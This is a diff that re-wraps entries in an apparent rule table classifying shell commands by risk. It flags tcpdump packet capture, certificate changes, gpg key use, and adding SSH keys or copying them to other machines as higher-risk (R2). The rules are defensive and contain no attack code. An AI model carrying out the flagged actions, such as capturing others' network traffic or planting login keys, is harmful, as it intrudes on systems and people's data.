-    **many("tcpdump", reader("-D,--list-interfaces -w:!write -z:!exec -r:!read -F:!read -i,--interface: -c: -n -nn -v -vv -vvv -e -A -X -XX -x -q -s: -S -t -tt -ttt -tttt -G: -C: -W: -Z: -l -p -K -L -h --version --print -B: -E:!R2 -T: -y: -j: -J -Q: -V:!read -m: -M:!secret -N -O -R -U -u -b -d -dd -# -H --count", operands="data", check=lambda call, parsed: None if any(parsed.has(n) for n in ("-D", "-r", "-d", "-h", "--version", "-L", "-J")) else call.note(R2, "network.capture", "reads what others send over the network", None, "tcpdump(8)"), plain=False, unknown="R2")),
+    **many("tcpdump", reader(
+            "-D,--list-interfaces -w:!write -z:!exec -r:!read -F:!read -i,--interface: -c: -n -nn -v -vv -vvv "
+            "-e -A -X -XX -x -q -s: -S -t -tt -ttt -tttt -G: -C: -W: -Z: -l -p -K -L -h --version --print -B: "
+            "-E:!R2 -T: -y: -j: -J -Q: -V:!read -m: -M:!secret -N -O -R -U -u -b -d -dd -# -H --count",
+            operands="data", check=lambda call, parsed: None if any(parsed.has(n) for n in ("-D", "-r", "-d", "-h",
+                    "--version", "-L", "-J")) else call.note(R2, "network.capture",
+                "reads what others send over the network", None, "tcpdump(8)"), plain=False, unknown="R2")),
     **many("rsync", custom(_rsync_judge)),
     **many("scp sftp", custom(_scp)),
     "openssl": custom(_openssl),
-    **many("certbot acme.sh", custom(lambda call: None if any(word.value in ("certificates", "plugins", "--version", "show_account") for word in call.args) else call.note(R2, "certificates.change", "asks for, changes or removes certificates"))),
-    **many("gpg gpg2 gpgv", table("-k,--list-keys,--list-public-keys!ok --verify!ok --fingerprint!ok --list-sigs!ok --check-sigs!ok --show-keys!ok --list-packets!ok --version!ok --help!ok --with-colons --keyid-format: --no-default-keyring --keyring: --with-fingerprint -v -q --batch --no-tty --dry-run --import-options: --print-md:!ok", operands="data", unknown="R2", check=lambda call, parsed: None if any(parsed.has(n) for n in ("-k", "--verify", "--fingerprint", "--list-sigs", "--check-sigs", "--show-keys", "--list-packets", "--version", "--help", "--print-md")) or call.name == "gpgv" else call.note(R2, "gpg.key", "uses or changes keys"))),
+    **many("certbot acme.sh", custom(lambda call: None if any(word.value in ("certificates", "plugins", "--version",
+                    "show_account") for word in call.args) else call.note(R2, "certificates.change",
+                "asks for, changes or removes certificates"))),
+    **many("gpg gpg2 gpgv", table(
+            "-k,--list-keys,--list-public-keys!ok --verify!ok --fingerprint!ok --list-sigs!ok --check-sigs!ok "
+            "--show-keys!ok --list-packets!ok --version!ok --help!ok --with-colons --keyid-format: "
+            "--no-default-keyring --keyring: --with-fingerprint -v -q --batch --no-tty --dry-run "
+            "--import-options: --print-md:!ok", operands="data", unknown="R2", check=lambda call, parsed: None if any(
+                parsed.has(n) for n in ("-k", "--verify", "--fingerprint", "--list-sigs", "--check-sigs",
+                    "--show-keys", "--list-packets", "--version", "--help", "--print-md")) or call.name == "gpgv" else
+            call.note(R2, "gpg.key", "uses or changes keys"))),
     **many("ssh-keygen", custom(_keygen)),
-    "ssh-add": custom(lambda call: None if any(word.value in ("-l", "-L", "-V") for word in call.args) else call.note(R2, "ssh.add", "changes what keys the agent holds")),
+    "ssh-add": custom(lambda call: None if any(word.value in ("-l", "-L", "-V") for word in call.args) else
+        call.note(R2, "ssh.add", "changes what keys the agent holds")),
     **many("ssh-copy-id", table("", operands="data", level="R2", text="lets a key log in to another machine")),
     "ssh-keyscan": reader("-p: -t: -T: -4 -6 -H -v -f:!R2 -D", operands="data", check=_ping, plain=False),
     "finger": custom(lambda call: _finger(call)),
